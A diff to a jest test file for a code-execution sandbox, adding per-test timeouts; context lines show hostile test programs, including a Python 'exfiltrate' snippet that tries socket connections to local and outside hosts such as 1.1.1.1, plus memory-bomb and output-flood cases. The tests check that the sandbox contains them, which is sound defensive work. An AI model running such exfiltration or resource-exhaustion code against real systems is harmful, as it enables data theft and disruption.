@@ -13,6 +13,10 @@ import { type ExecutionLimits, defaultCompileLimits, defaultRunLimits } from './
 import { createLocalBackend } from './local-backend.js';
 import { createExecutionPool, sandboxUidBase, sandboxUidCount } from './pool.js';
 
+// These tests run real programs in sandboxes; on a loaded machine one can take seconds. This is
+// jest's budget per test, not an assertion about time.
+(import.meta as ImportMeta & { jest: { setTimeout(ms: number): void } }).jest.setTimeout(60000);
+
 const secret = `file-secret-${randomBytes(12).toString('hex')}`;
 const envSecret = `env-secret-${randomBytes(12).toString('hex')}`;
 const marker = `mixreward-marker-${randomBytes(6).toString('hex')}`;
@@ -107,6 +111,7 @@ function printed(result: ExecResult): string {
 const exfiltrate = {
   python: () => `
 import os, socket, glob
+
 out = []
 for host in ["127.0.0.1", "${hostAddress}", "1.1.1.1"]:
     try:
@@ -234,7 +239,7 @@ describe.each(languages)('bwrap sandbox against hostile %s', (language) => {
     const result = await run(sandbox, language, hostile[language].memoryBomb);
     expect(result.stdout).not.toContain('ALLOCATED');
     expect(result.exitCode === 0 && result.status === 'exited').toBe(false);
-  });
+  }, 30000); // filling 1 GiB before the limit stops it takes seconds on a loaded machine: jest's budget, not an assertion
 
   test('an output flood is cut at the limit and fails', async () => {
     const result = await run(sandbox, language, hostile[language].flood);
@@ -332,5 +337,5 @@ describe('process backend (limits only)', () => {
     expect(memory.stdout).not.toContain('ALLOCATED');
     const flood = await run(limited, 'python', hostile.python.flood);
     expect(flood.status).toBe('output_limit');
-  });
+  }, 30000);
 });
